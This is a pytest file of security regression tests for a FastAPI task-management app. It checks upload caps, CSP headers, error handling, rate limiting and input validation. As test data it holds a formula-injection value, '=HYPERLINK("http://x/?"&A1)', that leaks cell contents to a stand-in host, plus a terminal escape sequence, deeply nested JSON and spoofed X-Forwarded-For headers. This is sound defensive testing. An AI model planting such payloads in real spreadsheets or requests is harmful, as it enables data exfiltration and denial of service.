"""What an attack found and must not find again: bodies read before sign-in or past the cap,
unforeseen 500s without headers, a CDN-loaded docs page, pages without a CSP, bad numbers and dates."""

from __future__ import annotations

import re
from typing import Any

import anyio
import pytest
from conftest import World, sign_in
from fastapi.testclient import TestClient
from sqlalchemy import select
from test_api_uploads import dump, plaque_task

from duban.engine.access.actors import actor_for
from duban.engine.store.db import write_session
from duban.engine.store.models import Task, Unit
from duban.engine.work import fanout

CHUNK = 256 * 1024
# A well-formed start of a multipart upload, so only the size can stop it.
PART = b'--zzz\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\nContent-Type: text/csv\r\n\r\n'


def call_asgi(app: Any, path: str, headers: list[tuple[bytes, bytes]], chunks: int) -> tuple[int, int]:
    """POST a chunked body of `chunks` pieces straight into the app; (status, pieces it read)."""
    pulled = 0
    status = 0

    async def receive() -> dict[str, Any]:
        nonlocal pulled
        pulled += 1
        more = pulled < chunks
        head = PART if pulled == 1 else b""
        return {"type": "http.request", "body": head + b"x" * CHUNK, "more_body": more}

    async def send(message: dict[str, Any]) -> None:
        nonlocal status
        if message["type"] == "http.response.start":
            status = message["status"]

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "root_path": "",
        "headers": [
            (b"host", b"testserver"),
            (b"transfer-encoding", b"chunked"),
            (b"content-type", b"multipart/form-data; boundary=zzz"),
            *headers,
        ],
        "client": ("127.0.0.1", 5000),
        "server": ("testserver", 80),
        "app": app,
    }

    async def run() -> None:
        await app(scope, receive, send)

    anyio.run(run)
    return status, pulled


@pytest.mark.parametrize("path", ["/api/v1/units/import", "/api/v1/tasks/1/submit", "/api/v1/definitions"])
def test_a_bad_token_is_refused_before_the_body_is_read(client: TestClient, app: Any, path: str) -> None:
    status, pulled = call_asgi(app, path, [(b"authorization", b"Bearer forged")], chunks=1200)
    assert status == 401
    assert pulled == 0


def test_a_stranger_cannot_post_a_body_to_the_web_ui(client: TestClient, app: Any) -> None:
    status, pulled = call_asgi(app, "/ui/tasks/1/submit", [(b"cookie", b"duban_session=forged")], chunks=1200)
    assert status == 303
    assert pulled == 0


def test_a_chunked_body_is_capped_while_it_streams(client: TestClient, app: Any) -> None:
    token = sign_in(client, "c01-admin")["Authorization"].encode()
    # 300 MB offered, the cap is 6 MB (max_upload_mb=1, five files and a margin): refused near the cap.
    status, pulled = call_asgi(app, "/api/v1/units/import", [(b"authorization", token)], chunks=1200)
    assert status == 413
    assert pulled * CHUNK <= 6 * 1024 * 1024 + 2 * CHUNK


def test_a_chunked_body_over_the_cap_through_http_answers_413(world: World, client: TestClient) -> None:
    headers = sign_in(client, "c01-admin")

    def body() -> Any:
        yield PART
        for _ in range(40):
            yield b"y" * CHUNK

    r = client.post(
        "/api/v1/units/import",
        headers={**headers, "content-type": "multipart/form-data; boundary=zzz"},
        content=body(),
    )
    assert r.status_code == 413
    assert r.headers["content-type"].startswith("application/problem+json")
    assert "content-security-policy" in r.headers


def test_every_answer_carries_a_csp(client: TestClient) -> None:
    for path in ("/login", "/api/v1/units", "/api/docs", "/openapi.json", "/no/such/page"):
        csp = client.get(path).headers["content-security-policy"]
        assert "default-src 'self'" in csp and "script-src 'self'" in csp, path
        assert "unsafe-inline" not in csp.split("style-src-attr")[0], path


def test_the_docs_page_loads_nothing_from_elsewhere(client: TestClient) -> None:
    page = client.get("/api/docs")
    assert page.status_code == 200
    assert "http" not in page.text.replace('lang="zh-CN"', "")
    # Every script has a src on this server: none inline, which the CSP would block.
    assert page.text.count("<script") == page.text.count('<script src="/api/docs/')
    for asset in (
        "/api/docs/assets/swagger-ui-bundle.js",
        "/api/docs/assets/swagger-ui.css",
        "/api/docs/start.js",
    ):
        r = client.get(asset)
        assert r.status_code == 200 and len(r.content) > 100, asset
    assert "/openapi.json" in client.get("/api/docs/start.js").text


def test_an_unforeseen_error_is_problem_json_with_headers(app: Any) -> None:
    def boom() -> None:
        raise RuntimeError("secret internals")

    app.add_api_route("/api/v1/boom", boom)
    app.add_api_route("/ui/boom", boom)
    with TestClient(app, raise_server_exceptions=False) as c:
        r = c.get("/api/v1/boom")
        assert r.status_code == 500
        assert r.headers["content-type"].startswith("application/problem+json")
        assert "secret" not in r.text
        assert "content-security-policy" in r.headers and r.headers["x-frame-options"] == "DENY"
        page = c.get("/ui/boom")
        assert page.status_code == 500 and page.headers["content-type"].startswith("text/html")
        assert "content-security-policy" in page.headers and "secret" not in page.text


def test_a_deeply_nested_json_form_is_refused_as_input(world: World, client: TestClient) -> None:
    task_id = plaque_task(world)
    headers = sign_in(client, "g01-staff")
    deep = "[" * 40_000 + "]" * 40_000
    r = client.post(f"/api/v1/tasks/{task_id}/submit", headers=headers, data={"form": deep})
    assert r.status_code == 422, r.text
    assert r.json()["errors"][0]["field"] == "form"
    r = client.post("/api/v1/events", headers=headers, content=deep, params={})
    assert r.status_code in (400, 422)
    assert r.headers["content-type"].startswith("application/problem+json")


def organise_task(world: World) -> int:
    with write_session(world.db) as s:
        result = fanout.assign_definition(s, world.rt, actor_for(s, "c01-admin"), "test-organise", "C01")
        k01 = s.scalar(select(Unit.id).where(Unit.code == "K01"))
        return s.scalar(
            select(Task.id).where(Task.assignment_id == result.assignment_id, Task.unit_id == k01)
        )


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "NaN", "Infinity"])
def test_progress_must_be_a_finite_number(world: World, client: TestClient, value: str) -> None:
    task_id = organise_task(world)
    headers = sign_in(client, "k01-staff")
    cookie = client.post("/login", data={"username": "k01-staff", "password": "password123"})
    assert cookie.status_code in (200, 303)
    before = dump(world.db)
    r = client.post(f"/api/v1/tasks/{task_id}/submit", headers=headers, data={"progress": value})
    assert r.status_code == 422, r.text
    # The page's form carries the session's CSRF token; without it the post is refused before any check.
    token = re.search(r'name="csrf" value="([0-9a-f]+)"', client.get("/ui").text)
    assert token is not None
    page = client.post(
        f"/ui/tasks/{task_id}/submit",
        data={"progress": value, "csrf": token.group(1)},
        follow_redirects=False,
    )
    assert page.status_code == 422, page.text[:200]
    assert dump(world.db) == before


@pytest.mark.parametrize("due", ["9999-12-31", "0001-01-01"])
def test_dates_far_outside_sane_years_are_refused(world: World, client: TestClient, due: str) -> None:
    headers = sign_in(client, "c01-admin")
    before = dump(world.db)
    r = client.post(
        "/api/v1/assignments", headers=headers, json={"definition": "test-plaque", "scope": "C01", "due": due}
    )
    assert r.status_code == 422, r.text
    r = client.post(
        "/api/v1/assignments/preview",
        headers=headers,
        json={"definition": "test-plaque", "scope": "C01", "due": due},
    )
    assert r.status_code == 422, r.text
    r = client.post(
        "/api/v1/events",
        headers=sign_in(client, "g01-staff"),
        json={"name": "cadre.appointed", "unit": "G01", "at": f"{due}T09:00:00+08:00"},
    )
    assert r.status_code == 422, r.text
    task_id = plaque_task(world)
    before = dump(world.db)
    r = client.post(f"/api/v1/tasks/{task_id}/extend", headers=headers, json={"due": due, "reason": "why"})
    assert r.status_code == 422, r.text
    assert dump(world.db) == before


def test_the_report_workbook_keeps_a_formula_as_text(world: World, client: TestClient) -> None:
    from io import BytesIO

    from openpyxl import load_workbook

    with world.db.begin() as conn:
        conn.execute(
            Unit.__table__.update().where(Unit.code == "K01").values(name='=HYPERLINK("http://x/?"&A1)')
        )
        conn.execute(Unit.__table__.update().where(Unit.code == "K02").values(name="k\x1b[2J\x07"))
    headers = sign_in(client, "c01-admin")
    for url in ("/api/v1/units/C01/report.xlsx", "/api/v1/units/C01/report?format=xlsx"):
        r = client.get(url, headers=headers)
        assert r.status_code == 200, r.text
        rows = {
            row[0].value: row[1]
            for row in load_workbook(BytesIO(r.content)).worksheets[0].iter_rows(min_row=2)
        }
        assert rows["K01"].data_type == "s" and rows["K01"].value.startswith("=HYPERLINK")
        assert rows["K02"].value == "k\ufffd[2J\ufffd"


def _guesses(c: TestClient, forwarded: list[str]) -> list[int]:
    return [
        c.post(
            "/api/v1/auth/token",
            data={"username": "g01-staff", "password": "wrong-password"},
            headers={"X-Forwarded-For": f},
        ).status_code
        for f in forwarded
    ]


def test_forwarded_for_is_not_believed_from_loopback_by_default(app: Any) -> None:
    with TestClient(app, client=("127.0.0.1", 40000)) as c:
        codes = _guesses(c, [f"198.51.100.{i}" for i in range(7)])
    assert codes == [401] * 5 + [429] * 2


def test_forwarded_for_from_a_configured_proxy_names_the_client(world: World) -> None:
    from conftest import settings_for

    from duban.api.app import create_app

    app = create_app(
        settings_for(world.tmp, trusted_proxies="127.0.0.1, 10.0.0.0/8"), engine=world.db, runtime=world.rt
    )
    with TestClient(app, client=("127.0.0.1", 40000)) as c:
        # Each guess from a different client behind the proxy: each pair has one failure.
        assert _guesses(c, [f"198.51.100.{i}" for i in range(7)]) == [401] * 7
        # A client writing its own X-Forwarded-For cannot hide: the nearest untrusted hop counts.
        spoofed = [f"203.0.113.{i}, 192.0.2.50, 10.1.2.3" for i in range(7)]
        assert _guesses(c, spoofed) == [401] * 5 + [429] * 2


def test_serve_leaves_forwarded_headers_to_the_app(monkeypatch: pytest.MonkeyPatch, tmp_path: Any) -> None:
    import uvicorn

    from duban.cli.context import Context
    from duban.cli.serve_cmd import run_server

    seen: dict[str, Any] = {}
    monkeypatch.setattr(uvicorn, "run", lambda app, **kw: seen.update(kw))
    monkeypatch.setenv("DUBAN_DATA_DIR", str(tmp_path / "data"))
    run_server(Context(db_url=f"sqlite:///{tmp_path}/s.db", now=None), "127.0.0.1", 0, scheduler=False)
    assert seen["proxy_headers"] is False


def test_changing_the_password_is_throttled(client: TestClient) -> None:
    headers = sign_in(client, "g01-staff")
    codes = [
        client.post(
            "/api/v1/auth/password",
            headers=headers,
            json={"old_password": "wrong-one", "new_password": "newpassword1"},
        ).status_code
        for _ in range(7)
    ]
    assert codes == [422] * 5 + [429] * 2


def test_assignments_from_above_do_not_show_their_scope_or_issuer(world: World, client: TestClient) -> None:
    plaque_task(world)  # assigned by c01-admin to C01
    mine = client.get("/api/v1/assignments", headers=sign_in(client, "c01-admin")).json()
    assert [(a["scope"], a["issued_by"]) for a in mine] == [("C01", "c01-admin")]
    below = client.get("/api/v1/assignments", headers=sign_in(client, "g01-staff")).json()
    assert [a["definition_id"] for a in below] == ["test-plaque"]
    assert [(a["scope"], a["issued_by"]) for a in below] == [(None, None)]


def test_a_bad_trusted_proxy_setting_stops_the_start(world: World) -> None:
    from conftest import settings_for

    from duban.api.app import create_app

    with pytest.raises(ValueError, match="not-an-address"):
        create_app(
            settings_for(world.tmp, trusted_proxies="10.0.0.1, not-an-address"),
            engine=world.db,
            runtime=world.rt,
        )
